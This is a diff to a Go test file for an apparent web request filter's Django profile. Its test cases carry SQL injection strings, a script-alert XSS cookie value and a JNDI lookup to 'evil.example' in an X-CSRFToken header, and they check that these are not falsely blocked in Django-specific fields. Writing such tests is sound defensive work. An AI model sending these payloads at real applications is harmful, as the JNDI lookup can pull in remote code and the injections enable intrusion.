@@ -273,6 +273,27 @@ func TestDjangoProfile(t *testing.T) {
 			r.Header.Set("Cookie", "csrftoken=1' OR '1'='1")
 			return r
 		}},
+		{"sessionid cookie", func() *http.Request {
+			r := browserRequest("GET", "/", nil)
+			r.Header.Set("Cookie", "sessionid=1' OR '1'='1")
+			return r
+		}},
+		{"messages cookie", func() *http.Request {
+			r := browserRequest("GET", "/", nil)
+			r.Header.Set("Cookie", `messages=[["__json_message",0,25,"<script>alert(1)</script>"]]`)
+			return r
+		}},
+		{"X-CSRFToken header", func() *http.Request {
+			r := form("/api/things/", "name=x")
+			r.Header.Set("X-CSRFToken", "${jndi:ldap://evil.example/a}")
+			return r
+		}},
+		{"_popup and _to_field in an admin popup", func() *http.Request {
+			return browserRequest("GET", "/admin/auth/user/?_popup=1%27%20OR%20%271%27=%271&_to_field=1%27%20OR%20%271%27=%271", nil)
+		}},
+		{"next on the admin login", func() *http.Request {
+			return browserRequest("GET", "/admin/login/?next=/admin/%3Fq%3D1%2527%2520OR%2520%25271%2527%253D%25271", nil)
+		}},
 	} {
 		if d := s.Check(c.r().Context(), c.r(), info()); d.Decided() {
 			t.Errorf("%s: blocked with the Django profile: %s", c.name, d.Reason)
@@ -290,6 +311,38 @@ func TestDjangoProfile(t *testing.T) {
 	} {
 		if d := s.Check(r.Context(), r, info()); !d.Decided() {
 			t.Errorf("%s: not blocked", name)
+		}
+	}
+}
+
+// detection.admin_paths moves the admin exclusions to where the app
+// mounts its admin site; /admin/ is then an ordinary path.
+func TestDjangoProfileAdminPaths(t *testing.T) {
+	richText := "title=x&body=%3Cp%3E%3Cimg+src%3D%22%2Fmedia%2Fa.jpg%22+alt%3D%22a%22%3E%3Ca+href%3D%22https%3A%2F%2Fexample.com%22+target%3D%22_blank%22%3Elink%3C%2Fa%3E%3C%2Fp%3E"
+	filters := "?_changelist_filters=q%3D1%2527%2520OR%2520%25271%2527%253D%25271"
+	moved := stageFromYAML(t, "detection:\n  admin_paths: [/staff.area/, /ops/]\n")
+	byDefault := stageFromYAML(t, "")
+	for _, c := range []struct {
+		stage *Stage
+		r     *http.Request
+		block bool
+	}{
+		{moved, form("/staff.area/blog/post/add/", richText), false},
+		{moved, form("/ops/blog/post/1/change/", richText), false},
+		{moved, browserRequest("GET", "/staff.area/app/thing/"+filters, nil), false},
+		{moved, form("/admin/blog/post/add/", richText), true},
+		{moved, browserRequest("GET", "/admin/app/thing/"+filters, nil), true},
+		{moved, form("/staffXarea/blog/post/add/", richText), true}, // the dot is not a wildcard
+		{byDefault, form("/staff.area/blog/post/add/", richText), true},
+		{byDefault, form("/admin/blog/post/add/", richText), false},
+	} {
+		if d := c.stage.Check(c.r.Context(), c.r, info()); d.Decided() != c.block {
+			t.Errorf("%s %s (moved %v): blocked %v, want %v", c.r.Method, c.r.URL, c.stage == moved, d.Decided(), c.block)
+		}
+	}
+	for _, bad := range []string{"admin", "/admin", "/ad min/", "//admin/"} {
+		if _, err := buildFromYAML(t, "detection:\n  admin_paths: [\""+bad+"\"]\n"); err == nil || !strings.Contains(err.Error(), "detection.admin_paths[0]") {
+			t.Errorf("admin_paths %q: %v", bad, err)
 		}
 	}
 }
